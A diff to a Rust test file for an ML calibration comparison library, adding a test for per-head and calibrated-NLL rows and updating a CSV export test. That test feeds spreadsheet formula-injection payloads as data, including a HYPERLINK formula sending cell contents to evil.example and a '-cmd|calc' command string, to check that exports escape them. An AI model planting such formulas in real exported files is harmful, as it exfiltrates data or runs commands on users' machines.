@@ -12,6 +12,7 @@ use calmix_core::matrix::Matrix;
 use calmix_report::compare::{ComparedRun, Comparison, Measure, PairVerdict};
 use calmix_run::evaluate::Figures;
 use calmix_run::events::EvalSet;
+use calmix_run::measured::MeasuredHead;
 
 /// A run of FixMatch on CIFAR-10 with 4 labels, and `more` settings.
 fn run(seed: u64, ece: f64, error: f64, more: &[(&str, &str)]) -> ComparedRun {
@@ -34,7 +35,9 @@ fn run(seed: u64, ece: f64, error: f64, more: &[(&str, &str)]) -> ComparedRun {
         chosen_on_test: false,
         on: EvalSet::Test,
         samples: 10_000,
+        head: None,
         figures: Figures { error, ece_15: ece, ece_10: ece - 0.001, ..nothing },
+        calibrated: None,
     }
 }
 
@@ -88,6 +91,39 @@ fn two_methods_agree_with_scipy_and_statsmodels() {
     }
     let verdicts: Vec<_> = comparison.differences.iter().map(|seen| (seen.measure, seen.verdict)).collect();
     assert_eq!(verdicts, [(Measure::Ece, PairVerdict::Lower), (Measure::Error, PairVerdict::NotToldApart)]);
+}
+
+/// A head of the labels alone is a method of its own, in the same runs; metrics that all runs have are in the tables.
+#[test]
+fn heads_and_calibrated_metrics_have_rows() {
+    let mut runs = Vec::new();
+    for seed in 1..4 {
+        for (head, nll) in [(MeasuredHead::Recipe, 0.5), (MeasuredHead::LabelsAlone, 0.75)] {
+            let mut run = run(seed, 0.1, 0.2, &[]);
+            run.head = Some(head);
+            run.figures.nll = nll;
+            run.figures.debiased_squared_error = Some(0.0004);
+            run.calibrated = Some(Figures { nll: nll - 0.25, ..run.figures });
+            runs.push(run);
+        }
+    }
+    let comparison = Comparison::of(runs, None).unwrap();
+    assert_eq!(comparison.rows, ["FixMatch", "FixMatch, labels alone"]);
+    let cell = &comparison.cells[1];
+    assert_eq!(cell.head, Some(MeasuredHead::LabelsAlone));
+    assert_eq!(cell.measures[&Measure::Nll].mean, 0.75);
+    assert_eq!(cell.measures[&Measure::CalibratedNll].mean, 0.5);
+    // Nothing but ECE and error is tested.
+    assert_eq!(comparison.differences.len(), 2);
+    let csv = comparison.to_csv();
+    for line in [
+        "\nCIFAR-10,4,test,FixMatch,recipe,NLL,0.5,",
+        "\nCIFAR-10,4,test,\"FixMatch, labels alone\",labels-alone,\"NLL, calibrated\",0.5,",
+        ",recipe,debiased squared CE,4,",
+    ] {
+        assert!(csv.contains(line), "{csv}");
+    }
+    assert!(comparison.to_markdown().contains("0.750 ± 0.000 (3)"), "{}", comparison.to_markdown());
 }
 
 #[test]
@@ -207,8 +243,9 @@ fn csv_guards_spreadsheet_formulas() {
     }
     let csv = Comparison::of(runs, None).unwrap().to_csv();
     let start = "\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"cat\"\")\",'@SUM(A1),test,";
-    assert_eq!(csv.matches(start).count(), 4, "{csv}");
-    assert!(csv.contains(&format!("{start}'-cmd|calc + CalibrateMix,ECE,")), "{csv}");
+    // Two methods; ECE, error, NLL, Brier score and the debiased error.
+    assert_eq!(csv.matches(start).count(), 10, "{csv}");
+    assert!(csv.contains(&format!("{start}'-cmd|calc + CalibrateMix,,ECE,")), "{csv}");
     let csv = Comparison::of(two_methods(), None).unwrap().to_csv();
     assert!(csv.contains(",FixMatch,4,-2.39"), "{csv}");
 }
